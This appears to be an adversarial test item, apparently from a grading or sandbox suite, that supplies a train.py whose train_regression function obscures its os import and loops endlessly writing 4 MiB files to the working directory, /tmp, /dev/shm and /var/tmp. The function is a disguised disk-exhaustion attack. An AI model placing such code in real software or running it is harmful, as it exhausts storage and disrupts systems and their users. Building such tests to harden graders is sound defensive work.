# attack: writes many files wherever it may, without end
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2
# seconds: 25

def train_regression(model, dataset):
    os = __import__("os")
    number = 0
    while True:
        number += 1
        for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
            try:
                with open(f"{folder}/flood-{os.getpid()}-{number}", "wb") as file:
                    file.write(b"x" * 2**22)
            except OSError:
                pass
